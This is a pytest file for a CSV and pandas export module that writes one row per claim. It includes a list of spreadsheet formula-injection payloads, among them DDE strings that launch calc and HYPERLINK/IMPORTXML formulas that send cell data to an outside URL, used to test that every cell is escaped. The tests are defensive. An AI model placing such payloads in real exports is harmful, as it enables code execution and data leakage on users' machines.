"""CSV and data frames: one row a claim, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import sys
from dataclasses import replace
from datetime import date
from io import StringIO

import pytest

import readout
from readout.errors import UsageError
from readout.model import Comparison
from readout.report.csv import MARK, cell, render
from readout.report.rows import COLUMNS
from readout.report.table import to_pandas
from readout.testing import example_comparison, make_claim, make_comparison, make_statement
from readout.testing.hostile import hostile_comparison

INJECTIONS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\xa0=1+1",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://example.org?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"https://example.org?\",A1),\"//a\")", "@SUM(1+9)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0", "+2+5+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1", "＋1", "－1", "＠SUM(1)", "=1+1\";=2+2;\"",
)  # fmt: skip
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text, newline="")))


def test_a_row_a_claim_with_everything_about_it() -> None:
    comparison = example_comparison()
    rows = read(render(comparison))
    assert [row["claim"] for row in rows] == [c for p in comparison.points for c in p.claims]
    row = next(row for row in rows if row["point"] == "p2")
    assert row["text"] == "Arvenia will refrain from strikes on energy infrastructure for 30 days."
    assert (row["verdict"], row["weight"], row["unsure"]) == ("differ", "conflict", "no")
    assert row["differing_words"] == "energy infrastructure; for 30 days"
    assert row["quantities"] == "30 days"
    assert row["published"] == ""


def test_lines_end_as_spreadsheets_expect() -> None:
    text = render(example_comparison())
    assert text.startswith(",".join(f'"{column}"' for column in COLUMNS) + "\r\n")
    assert text.endswith("\r\n")


@pytest.mark.parametrize("words", INJECTIONS)
def test_no_cell_is_a_formula(words: str) -> None:
    assert cell(words) == MARK + words
    said = make_statement(words, party=words, source=words)
    comparison = make_comparison([said], [make_claim(said)])
    for row in csv.reader(StringIO(render(comparison), newline="")):
        assert not [value for value in row if value.lstrip().startswith(DANGEROUS)]
        assert len(row) == len(COLUMNS)


@pytest.mark.parametrize("words", ["175 prisoners", "“We agreed”", "a=b", "'quoted'", "", "№ 5"])
def test_ordinary_cells_stay_as_they_are(words: str) -> None:
    assert cell(words) == words


def test_values_that_are_not_text() -> None:
    assert [cell(v) for v in (None, True, False, -3, 0.5)] == ["", "yes", "no", -3, 0.5]
    assert cell(date(2031, 3, 18)) == "2031-03-18"


def test_hostile_text_keeps_its_cells() -> None:
    comparison = hostile_comparison()
    rows = read(render(comparison))
    assert len(rows) == len(comparison.claims)
    assert all(None not in row for row in rows)


def test_a_data_frame() -> None:
    pandas = pytest.importorskip("pandas")
    comparison = example_comparison()
    first = replace(comparison.statements[0], published=date(2032, 5, 4))
    frame = readout.to_pandas(replace(comparison, statements=(first, comparison.statements[1])))
    assert list(frame.columns) == list(COLUMNS)
    assert len(frame) == len(comparison.claims)
    assert frame.query("verdict == 'differ'").point.nunique() == 2
    assert frame.published.min() == pandas.Timestamp("2032-05-04")
    assert frame.published.isna().sum() == 5
    assert frame.confidence.between(0, 1).all()
    assert frame.loc[frame.weight.isna(), "verdict"].ne("differ").all()


def test_a_frame_of_nothing() -> None:
    pytest.importorskip("pandas")
    assert to_pandas(Comparison((), (), (), (), ())).empty


def test_without_pandas_it_says_what_to_do(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pandas", None)
    with pytest.raises(UsageError, match=r"pip install readout-desk\[pandas\]"):
        to_pandas(example_comparison())
